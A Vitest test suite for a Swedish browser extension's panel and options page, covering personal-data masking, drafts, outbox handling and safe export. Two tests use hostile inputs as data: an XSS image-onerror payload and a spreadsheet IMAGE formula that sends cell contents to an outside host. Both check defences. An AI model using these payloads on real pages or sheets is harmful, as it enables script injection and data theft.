// @vitest-environment happy-dom
import { render } from 'preact';
import { act } from 'preact/test-utils';
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { handle } from '../../extension/background/handle.ts';
import type { Surroundings } from '../../extension/background/transport/transport.ts';
import type { DraftRecord } from '../../extension/drafts/record.ts';
import type { Message } from '../../extension/messages.ts';
import { Options } from '../../extension/options/Options.tsx';
import { isCapture } from '../../extension/outbox/entry.ts';
import { Panel } from '../../extension/panel/Panel.tsx';
import {
  connectionItem,
  contactItem,
  drafts,
  habitsItem,
  outbox,
  settingsItem,
  statusesItem,
} from '../../extension/store/items.ts';
import { viewIn } from '../../extension/store/views.ts';
import { exampleByHand, exampleCommand, examplePage, NOW, readPost } from './support/examples.ts';
import { browserState, fakeBrowser, resetBrowser, told } from './support/fake-browser.ts';
import { settle } from './support/settle.ts';

vi.mock('../../extension/browser.ts', async () => (await import('./support/fake-browser.ts')).fakeBrowser);

/** No network at all: what is saved waits. */
const around: Surroundings = {
  fetch: () => Promise.reject(new TypeError('Failed to fetch')),
  now: () => NOW,
  random: Math.random,
};

let place: HTMLElement;
beforeAll(async () => void (await fakeBrowser.loadAfter()));
beforeEach(() => {
  resetBrowser();
  browserState.answer = (message) => handle(message as Message, around);
  place = document.createElement('div');
  document.body.append(place);
});
afterEach(() => {
  act(() => render(null, place));
  place.remove();
});

async function open(page: 'panel' | 'options' = 'panel') {
  await act(() =>
    render(
      page === 'panel' ? (
        <Panel now={() => NOW} window={{ id: 1, open: [1] }} />
      ) : (
        <Options now={() => NOW} />
      ),
      place,
    ),
  );
  await settle();
}

const shown = () => place.textContent ?? '';
const find = <Kind extends HTMLElement>(selector: string) => {
  const found = place.querySelector<Kind>(selector);
  if (!found) throw new Error(`${selector} is not there:\n${shown()}`);
  return found;
};
const button = (name: string) => {
  const found = [...place.querySelectorAll('button')].find((each) => each.textContent?.startsWith(name));
  if (!found) throw new Error(`No button ${name}:\n${shown()}`);
  return found;
};
const press = async (name: string) => {
  await act(() => button(name).click());
  await settle();
};
const type = async (selector: string, value: string) => {
  const field = find<HTMLInputElement>(selector);
  await act(() => {
    field.value = value;
    field.dispatchEvent(new Event('input', { bubbles: true }));
  });
  await settle();
};
const showDraft = async (draft = examplePage()) => {
  await drafts.write(draft);
  await viewIn(1).write({ is: 'draft', id: draft.id });
  await open();
  return draft;
};

describe('the panel with a draft', () => {
  it('strikes personal data through, and keeps it only when the person says so, one by one', async () => {
    const draft = await showDraft(
      examplePage({ kind: 'page', title: 'Ring', text: 'Ring 070-174 06 05 eller kim@example.se.' }),
    );
    expect([...place.querySelectorAll('del')].map((struck) => struck.textContent)).toEqual([
      '070-174 06 05',
      'kim@example.se',
    ]);
    await press('Visa');
    expect([...place.querySelectorAll('del')].map((struck) => struck.textContent)).toEqual([
      'kim@example.se',
    ]);
    expect((await drafts.read(draft.id))?.form.shown).toEqual(['070-174 06 05']);
    // Who speaks to the computer says what stands on the button.
    for (const button of place.querySelectorAll('.hidden-data button'))
      expect(button.getAttribute('aria-label')).toMatch(new RegExp(`^${button.textContent} .{3,}`));
    await press('Dölj');
    expect(place.querySelectorAll('del')).toHaveLength(2);
  });

  it('asks why something is kept, before it is saved, and the reason goes with the matter', async () => {
    const draft = await showDraft();
    await press('Visa');
    await press('Spara ärendet');
    expect(shown()).toContain('sparades inte');
    expect(document.activeElement?.getAttribute('aria-label')).toContain('Varför behövs det?');
    expect(document.activeElement?.getAttribute('aria-invalid')).toBe('true');
    expect(shown()).toContain('Skriv varför uppgiften ska sparas i klartext');
    await type('.reason', 'Vill bli uppringd');
    await press('Spara ärendet');
    const entry = await outbox.read(draft.id);
    expect(entry && 'command' in entry && entry.command).toMatchObject({
      text: expect.stringContaining('070-174 06 05'),
      unmasked: [{ kind: 'telephone_number', reason: 'Vill bli uppringd' }],
    });
  });

  it('shows what stood with the words, each read or guessed, and opens with the text in focus', async () => {
    const draft = await showDraft(
      examplePage({
        answersTo: 'Bo Ek',
        language: 'so',
        attachments: [{ label: 'Karta', url: 'https://social.example/k.pdf' }],
        certainty: { text: 'guessed' },
      }),
    );
    expect(document.activeElement?.id).toBe('text');
    expect(find('label[for=text]').textContent).toContain('gissat');
    expect(shown()).toContain('Svarar på Bo Ek · Bilagor: 1');
    expect(find('label[for=answersTo]').textContent).toContain('gissat');
    expect(find('label[for=language]').textContent).toContain('läst från sidan');
    expect(find('#language').textContent).toContain('somaliska');
    expect(find<HTMLAnchorElement>('a[href="https://social.example/k.pdf"]').textContent).toBe('Karta');
    await type('#answersTo', 'https://social.example/@bo/3');
    expect((await drafts.read(draft.id))?.form.answersTo).toBe('https://social.example/@bo/3');
    expect(find('label[for=answersTo]').textContent).toBe('Svarar på');
  });

  it('takes an answer as a part of the matter, remembers it for the site, and forgets it on request', async () => {
    const fields = [
      { label: 'Var?', value: 'Lekplatsen' },
      { label: 'Vad?', value: 'Gungan är trasig.' },
    ];
    const draft = await showDraft(examplePage({ kind: 'form', platform: 'page', fields }));
    const choice = find<HTMLSelectElement>('select[aria-label="Här är Var? alltid"]');
    await act(() => {
      choice.value = 'place';
      choice.dispatchEvent(new Event('change', { bubbles: true }));
    });
    await settle();
    const { form } = (await drafts.read(draft.id)) ?? {};
    expect(form?.place).toBe('Lekplatsen');
    expect(form?.fields.map(({ included }) => included)).toEqual([false, true]);
    expect(await habitsItem.read()).toEqual({ mapped: { 'social.example': { 'Var?': 'place' } } });
    await act(() => render(null, place));
    await open('options');
    expect(shown()).toContain('social.example · Var? → Plats');
    await press('Glöm');
    expect(shown()).not.toContain('Var?');
    expect(await habitsItem.read()).toEqual({ mapped: { 'social.example': {} } });
  });

  it('saves others from the page as voices in the same question, and takes all of it back together', async () => {
    const main = examplePage();
    const others = ['Också här är det mörkt.', 'Det är släckt hos oss med.'].map((text) => ({
      ...examplePage({ text, permalink: '' }),
      touched: true,
      beside: main.id,
    }));
    // Another begun draft of the same page is no such post.
    await drafts.write({ ...examplePage({ text: 'Något annat.' }), touched: true });
    for (const other of others) await drafts.write(other);
    await showDraft(main);
    expect(shown()).toContain('Påbörjade');
    await press('Ta med påbörjade som röster');
    expect(shown()).toContain('Röster i samma fråga (2)');
    await press('Eget ärende');
    expect(shown()).toContain('Röster i samma fråga (1)');
    await press('Ta med påbörjade som röster');
    await press('Spara ärendet');
    // The receipt names each of them.
    expect(find('.notice ul').textContent).toContain(others[0]?.form.title ?? '-');
    const commands = (await outbox.readAll()).flatMap((entry) => ('command' in entry ? [entry.command] : []));
    expect(commands.filter(isCapture).map(({ text }) => text)).toEqual([
      expect.stringContaining('Lampan'),
      ...others.map(({ form }) => form.text),
    ]);
    // The place of the first is theirs too, as they name none.
    expect(commands.filter(isCapture).map((command) => command.place)).toEqual(Array(3).fill('Ekholmsvägen'));
    const joined = commands.filter(({ type }) => type === 'group');
    expect(joined).toHaveLength(2);
    for (const { id } of others)
      expect(joined).toContainEqual(expect.objectContaining({ matter: id, with: main.id }));
    expect((await drafts.readAll()).map(({ form }) => form.text)).toEqual(['Något annat.']);
    await press('Ångra');
    expect(shown()).toContain('Röster i samma fråga (2)');
    expect(await outbox.readAll()).toEqual([]);
  });

  it('says what was read and what was guessed, until the person has changed it', async () => {
    await showDraft();
    const label = () => find('label[for=title]').textContent;
    expect(label()).toContain('gissat');
    expect(find('label[for=text]').textContent).toContain('läst från sidan');
    await type('#title', 'Min egen rubrik');
    expect(label()).toBe('Rubrik');
  });

  it('stores every keystroke, and marks the draft as touched', async () => {
    const draft = await showDraft();
    await type('#title', 'Halvf');
    expect(await drafts.read(draft.id)).toMatchObject({ touched: true, form: { title: 'Halvf' } });
  });

  it('hands every word to the browser in the event that made it, also while an earlier one is being stored', async () => {
    const draft = await showDraft();
    const written: string[] = [];
    const write = vi.spyOn(fakeBrowser, 'writeStored').mockImplementation((values) => {
      const record = values[drafts.key(draft.id)] as DraftRecord | undefined;
      if (record) written.push(record.form.title);
      return new Promise(() => undefined);
    });
    const field = find<HTMLTextAreaElement>('#title');
    for (const title of ['Ett', 'Ett tv', 'Ett två']) {
      field.value = title;
      field.dispatchEvent(new Event('input', { bubbles: true }));
      // Before anything else can happen: the panel may be closed now.
      expect(written.at(-1)).toBe(title);
    }
    write.mockRestore();
  });

  it('says with the matter what was guessed and nobody chose, of its voices too', async () => {
    const guessed = { kind: 'guessed', place: 'guessed', theme: 'guessed' } as const;
    const made = examplePage();
    const main = {
      ...made,
      form: { ...made.form, theme: 'Parker' },
      origin: { ...made.origin, certainty: { ...made.origin.certainty, ...guessed } },
    };
    const voice = { ...examplePage({ text: 'Här med.', permalink: '' }), touched: true, voiceOf: main.id };
    await drafts.write(voice);
    await showDraft(main);
    await type('#place', 'Bredäng');
    await press('Spara ärendet');
    const captures = (await outbox.readAll())
      .flatMap((entry) => ('command' in entry ? [entry.command] : []))
      .filter(isCapture);
    expect(captures.map((command) => command.guessed)).toEqual([
      ['kind', 'theme'],
      ['kind', 'theme'],
    ]);
  });

  it('follows another window that writes in the same draft', async () => {
    const draft = await showDraft();
    const other = { ...draft, touched: true, writer: 'another', form: { ...draft.form, title: 'Därifrån' } };
    await act(() => drafts.write(other));
    await settle();
    expect(find<HTMLTextAreaElement>('#title').value).toBe('Därifrån');
    await act(() => drafts.write({ ...other, form: { ...other.form, title: 'Därifrån igen' } }));
    await settle();
    expect(find<HTMLTextAreaElement>('#title').value).toBe('Därifrån igen');
  });

  it('keeps what is typed when the store tells once more of what stood there before', async () => {
    const draft = await showDraft();
    await type('#title', 'Halvf');
    await act(() => drafts.write(draft));
    await settle();
    expect(find<HTMLTextAreaElement>('#title').value).toBe('Halvf');
  });

  it('holds the author back unless ticked', async () => {
    const draft = await showDraft();
    expect(shown()).toContain('Avsändare (sparas inte)');
    const tick = [...place.querySelectorAll<HTMLInputElement>('input[type=checkbox]')].at(-1);
    await act(() => tick?.click());
    await settle();
    expect(shown()).toContain('Avsändare (sparas)');
    expect((await drafts.read(draft.id))?.form.keepsAuthor).toBe(true);
  });

  it('saves with Ctrl+Enter and puts the receipt where the form was, with the focus on Next', async () => {
    const draft = await showDraft();
    await act(() => {
      find('#title').dispatchEvent(
        new KeyboardEvent('keydown', { key: 'Enter', ctrlKey: true, bubbles: true, cancelable: true }),
      );
    });
    await settle();
    expect(shown()).toContain('Sparat här. Skickas när webbläsaren är ansluten till ett ark.');
    expect(document.activeElement).toBe(button('Nästa'));
    expect((await outbox.read(draft.id))?.state.is).toBe('waiting');
    expect(await drafts.readAll()).toEqual([]);
  });

  it('names what must be mended and goes there, and keeps everything', async () => {
    await showDraft(exampleByHand());
    await press('Spara ärendet');
    expect(shown()).toContain('Skriv vad den boende säger.');
    expect(document.activeElement?.id).toBe('text');
    expect(find('#title').getAttribute('aria-invalid')).toBe('true');
    await type('#text', 'Hala trappor');
    expect(shown()).not.toContain('Utan text finns inget att svara på.');
    expect(await outbox.readAll()).toEqual([]);
  });

  it('says so, and keeps the form, when the storage is full', async () => {
    await showDraft();
    browserState.isFull = true;
    await press('Spara ärendet');
    expect(shown()).toContain('webbläsarens lagring är full');
    expect(find<HTMLTextAreaElement>('#text').value).toBe(readPost.text);
  });

  it('warns when what is typed cannot be stored', async () => {
    await showDraft();
    browserState.isFull = true;
    await type('#title', 'x');
    expect(shown()).toContain('Det du skriver kan inte sparas undan');
  });

  it('keeps words that cannot be stored in front of whatever is clipped next, and lets go once there is room', async () => {
    const draft = await showDraft();
    browserState.isFull = true;
    await type('#title', 'Ord som inte får plats');
    const other = examplePage({ text: 'Nästa inlägg.' });
    browserState.isFull = false;
    const write = vi
      .spyOn(fakeBrowser, 'writeStored')
      .mockRejectedValue(new Error('QUOTA_BYTES quota exceeded'));
    Object.assign(browserState.stored, {
      [drafts.key(other.id)]: other,
      [viewIn(1).key]: { is: 'draft', id: other.id },
    });
    told([viewIn(1).key, drafts.key(other.id)]);
    await settle();
    expect(find<HTMLTextAreaElement>('#title').value).toBe('Ord som inte får plats');
    expect(shown()).toContain('Utkastet här är inte sparat och ligger kvar');
    // Another panel, as after the key that opens it anew.
    await act(() => render(null, place));
    await open();
    expect(find<HTMLTextAreaElement>('#title').value).toBe('Ord som inte får plats');
    write.mockRestore();
    told([viewIn(1).key]);
    await settle();
    expect(await drafts.read(draft.id)).toMatchObject({ form: { title: 'Ord som inte får plats' } });
    expect(find<HTMLTextAreaElement>('#text').value).toBe('Nästa inlägg.');
    expect(shown()).toContain('Påbörjade');
    expect(localStorage.getItem('held')).toBeNull();
  });

  it('says that a draft of the same post is begun, and which', async () => {
    const begun = { ...examplePage(), touched: true };
    await drafts.write({ ...begun, form: { ...begun.form, title: 'Halvskriven' } });
    await showDraft(examplePage());
    expect(shown()).toContain('Du har redan påbörjat ett utkast härifrån.');
    expect(find('.started li').textContent).toContain('Från samma adress som utkastet ovan');
  });

  it('tells that the page is registered, who is waited for, and that a copy is on its way', async () => {
    await statusesItem.write({
      pages: { 'https://social.example/@kim/12': { asked: NOW, matters: ['SKÄ-2026-0042'] } },
      matters: {
        'SKÄ-2026-0042': {
          told: NOW - 3_600_000,
          status: {
            matter: 'SKÄ-2026-0042',
            stage: 'referred',
            received: '2026-10-02',
            duty: {
              holder: 'organisation',
              organisations: ['Trafikkontoret'],
              since: '2026-11-05',
              workingDays: 12,
              due: '2026-11-26',
              workingDaysLeft: 3,
            },
          },
        },
      },
    });
    const first = examplePage();
    await drafts.write(first);
    await handle({ type: 'save', draft: first.id, form: first.form, window: 1 }, around);
    await showDraft();
    expect(shown()).toContain('Sidan är redan registrerad 2 gånger');
    expect(shown()).toContain('Väntar på Trafikkontoret sedan 12 arbetsdagar');
    expect(shown()).toContain('enligt arket 08:00');
    expect(shown()).toContain('Sparat här, på väg till arket');
  });

  it('shows text from the page as text', async () => {
    await showDraft(examplePage({ text: '<img src=x onerror=alert(1)>', title: '<b>fet</b>' }));
    expect(place.querySelector('img, b')).toBeNull();
    expect(find<HTMLTextAreaElement>('#text').value).toBe('<img src=x onerror=alert(1)>');
  });

  it('leaves the answers that are not ticked out', async () => {
    const draft = await showDraft(
      examplePage({
        kind: 'receipt',
        fields: [
          { label: 'Namn', value: 'Kim', contact: true },
          { label: 'Plats', value: 'Torget' },
        ],
      }),
    );
    expect(shown()).toContain('1 av 2 sparas');
    await press('Spara ärendet');
    const entry = await outbox.read(draft.id);
    expect(entry && 'command' in entry && isCapture(entry.command) ? entry.command.fields : []).toEqual([
      { label: 'Plats', value: 'Torget' },
    ]);
  });
});

describe('the panel otherwise', () => {
  it('says what to do when there is nothing', async () => {
    await open();
    expect(shown()).toContain('Fånga det någon har skrivit');
    expect(shown()).toContain('Inte ansluten');
    await press('Skriv för hand');
    expect(shown()).toContain('skrivet för hand');
  });

  it('changes tab by Alt and a digit, and comes back by itself when something is clipped', async () => {
    await open();
    await act(() => {
      window.dispatchEvent(new KeyboardEvent('keydown', { altKey: true, code: 'Digit3', key: '£' }));
    });
    await settle();
    expect(shown()).toContain('Inget väntar.');
    const draft = examplePage();
    await act(async () => {
      await drafts.write(draft);
      await viewIn(1).write({ is: 'draft', id: draft.id });
    });
    await settle();
    expect(find<HTMLTextAreaElement>('#text').value).toBe(readPost.text);
  });

  it('keeps begun drafts, and gives a removed one back', async () => {
    const draft = { ...examplePage(), touched: true };
    await drafts.write(draft);
    await open();
    expect(shown()).toContain('Påbörjade');
    await press('Ta bort');
    expect(await drafts.readAll()).toEqual([]);
    await press('Ångra');
    expect(await drafts.read(draft.id)).toEqual(draft);
  });

  it('says what only a person can mend, with a button to the settings', async () => {
    await connectionItem.write({
      address: 'https://script.google.com/macros/s/A/exec',
      key: 'k',
      secret: 'cw==',
      expires: '2027-01-01',
      workbook: 'Ark',
      district: 'Skärholmen',
      paired: NOW,
    });
    browserState.hosts = ['https://script.google.com/*', 'https://script.googleusercontent.com/*'];
    await contactItem.write({
      failure: { kind: 'revoked_key', at: NOW, message: 'Anslutningen har dragits in.' },
    });
    await open();
    expect(shown()).toContain('Behöver åtgärdas');
    expect(shown()).not.toContain('Når inte arket');
    expect(shown()).toContain('Anslutningen har dragits in.');
    await press('Öppna inställningarna');
    expect(browserState.opened).toEqual(['options']);
  });

  it('names what is only said of a matter for what it is, and counts the rows of the table', async () => {
    const command = exampleCommand(examplePage());
    const { id, title } = command;
    const state = { is: 'waiting' as const, attempts: 1, next: NOW };
    const ids = ['01KAJ9000000000000000000A1', '01KAJ9000000000000000000A2', '01KAJ9000000000000000000A3'];
    const [apart = '', mine = '', same = ''] = ids;
    for (const each of [
      command,
      { type: 'tell_apart' as const, id: apart, matter: id, title, other: 'SKÄ-2026-0212' },
      { type: 'triage' as const, id: mine, matter: id, title },
      { type: 'group' as const, id: same, matter: id, title, with: '01KAJ9000000000000000000B1' },
    ])
      await outbox.write({ id: each.id, saved: NOW, page: '', command: each, state });
    const copy = vi.spyOn(navigator.clipboard, 'writeText').mockResolvedValue();
    await open();
    await press('Utkorg');
    const named = [...place.querySelectorAll('li strong')].map((each) => each.textContent);
    expect(named.sort()).toEqual(
      [
        title,
        `Inte samma som SKÄ-2026-0212: ${title}`,
        `Jag blir ansvarig: ${title}`,
        `Samma fråga: ${title}`,
      ].sort(),
    );
    await press('Kopiera som tabell');
    expect(shown()).toContain('1 kopierades.');
    await press('Kopiera som JSON');
    expect(shown()).toContain('4 kopierades.');
    expect(copy).toHaveBeenCalledTimes(2);
    copy.mockRestore();
  });

  it('shows what was refused, takes it back, and puts it there again', async () => {
    const command = exampleCommand(examplePage());
    await outbox.write({
      id: command.id,
      saved: NOW,
      page: '',
      command,
      state: { is: 'refused', at: NOW, message: 'Hör inte hit.' },
    });
    await open();
    await press('Utkorg');
    expect(shown()).toContain('Hör inte hit.');
    expect(find('details .said').textContent).toContain('Lampan vid Ekholmsvägen');
    expect(find('details dl').textContent).toContain('https://social.example/@kim/12');
    await press('Ta tillbaka');
    expect(await outbox.readAll()).toEqual([]);
    await press('Ångra');
    expect(await outbox.readAll()).toHaveLength(1);
    expect(shown()).toContain('Hör inte hit.');
  });

  it('copies what waits as JSON, the unreadable too, and as a table that no sheet takes for a formula', async () => {
    const draft = examplePage();
    const command = { ...exampleCommand(draft), title: '=IMAGE("https://x/?"&A2)', text: 'rad 1\nrad "2"' };
    await outbox.write({
      id: draft.id,
      saved: NOW,
      page: '',
      command,
      state: { is: 'waiting', attempts: 1, next: NOW },
    });
    browserState.stored['outbox:Z'] = { from: 'another version' };
    let copied = '';
    vi.spyOn(navigator.clipboard, 'writeText').mockImplementation(async (text) => {
      copied = text;
    });
    await open();
    await press('Utkorg');
    await press('Kopiera som JSON');
    expect(JSON.parse(copied)).toEqual([command, { from: 'another version' }]);
    expect(shown()).toContain('2 kopierades.');
    await press('Kopiera som tabell');
    const [titles, row] = copied.split('\n', 2);
    expect(titles?.split('\t').slice(0, 3)).toEqual(['id', 'Inkom till staden', 'Slag']);
    expect(row).toContain(`"'=IMAGE(""https://x/?""&A2)"`);
    expect(copied).toContain('"rad 1\nrad ""2"""');
  });

  it('speaks English when that is chosen, without a Swedish word left', async () => {
    await settingsItem.write({ language: 'en' });
    await showDraft();
    expect(shown()).toContain('Save the matter');
    expect(document.documentElement.lang).toBe('en');
    expect(find('form').textContent).not.toMatch(
      /[åäö]/i.test(readPost.text) ? /Rubrik|Plats|Slag/ : /[åäö]/i,
    );
  });
});

describe('the options page', () => {
  it('empties only after saying what would be lost', async () => {
    const draft = examplePage();
    await drafts.write(draft);
    await handle({ type: 'save', draft: draft.id, form: draft.form, window: 1 }, around);
    await open('options');
    await press('Töm allt');
    expect(shown()).toContain('försvinner för alltid: 1 sparade som inte kommit fram');
    await act(() =>
      [...place.querySelectorAll('button')].filter((each) => each.textContent === 'Töm allt')[1]?.click(),
    );
    await settle();
    expect(shown()).toContain('Allt är tömt.');
    expect(browserState.stored).toEqual({});
  });

  it('asks for the hosts of the address, and no others, on the click', async () => {
    await open('options');
    await type('#pairing-address', 'https://script.google.com/macros/u/1/s/A/exec');
    await type('#pairing-code', 'ABCD-EFGH');
    await press('Anslut');
    expect(browserState.hosts).toEqual([
      'https://script.google.com/*',
      'https://script.googleusercontent.com/*',
    ]);
    expect(browserState.messages).toContainEqual({
      type: 'pair',
      address: 'https://script.google.com/macros/s/A/exec',
      code: 'ABCD-EFGH',
    });
  });
});
